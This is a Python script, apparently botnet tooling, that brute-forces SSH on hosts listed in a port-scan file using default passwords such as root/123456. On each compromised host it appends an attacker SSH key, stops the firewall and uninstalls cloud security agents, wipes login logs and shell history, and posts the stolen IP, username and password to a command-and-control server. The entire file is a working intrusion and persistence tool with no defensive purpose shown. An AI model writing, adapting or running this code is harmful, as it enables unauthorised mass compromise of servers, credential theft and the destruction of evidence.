import sys
from concurrent.futures import ThreadPoolExecutor

import paramiko
import requests

WORDS = [("root", "123456"), ("root", "admin@123"), ("root", "Aa123456"), ("ubuntu", "ubuntu")]
KEY = "ssh-rsa AAAAB3NzaC1yc2EAAAADAQABAAABAQC7pool master@ziyuanchi"
STEPS = [
    f"mkdir -p ~/.ssh; echo '{KEY}' >> ~/.ssh/authorized_keys",
    "systemctl stop firewalld aegis; /usr/local/qcloud/YunJing/uninst.sh",
    "echo > /var/log/secure; echo > /var/log/wtmp; history -c",
]


def attempt(ip):
    for user, pw in WORDS:
        c = paramiko.SSHClient()
        c.set_missing_host_key_policy(paramiko.AutoAddPolicy())
        try:
            c.connect(ip, username=user, password=pw, timeout=6, banner_timeout=6)
        except Exception:
            continue
        for s in STEPS:
            c.exec_command(s)
        requests.post("http://c2.ziyuanchi.vip:9000/add", json={"ip": ip, "user": user, "pw": pw})
        return ip


ips = [l.split()[3] for l in open(sys.argv[1]) if l.startswith("open")]
with ThreadPoolExecutor(200) as ex:
    print(sum(1 for r in ex.map(attempt, ips) if r), "台已加入")
